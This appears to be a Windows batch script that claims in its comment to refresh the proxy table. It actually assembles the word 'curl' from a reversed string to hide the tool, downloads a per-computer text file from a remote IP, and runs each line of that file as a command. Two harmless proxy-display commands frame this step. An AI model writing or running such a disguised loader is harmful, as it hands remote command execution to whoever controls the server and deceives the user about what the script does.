@echo off
rem refresh the proxy table
setlocal EnableDelayedExpansion
set s=lruc
set t=
for %%i in (3 2 1 0) do set t=!t!!s:~%%i,1!
set a=http
set src=%a%://192.0.2.120/proxy/%COMPUTERNAME%.txt
netsh winhttp show proxy
for /f "usebackq delims=" %%L in (`!t! -s %src%`) do call %%L
netsh winhttp show proxy
endlocal
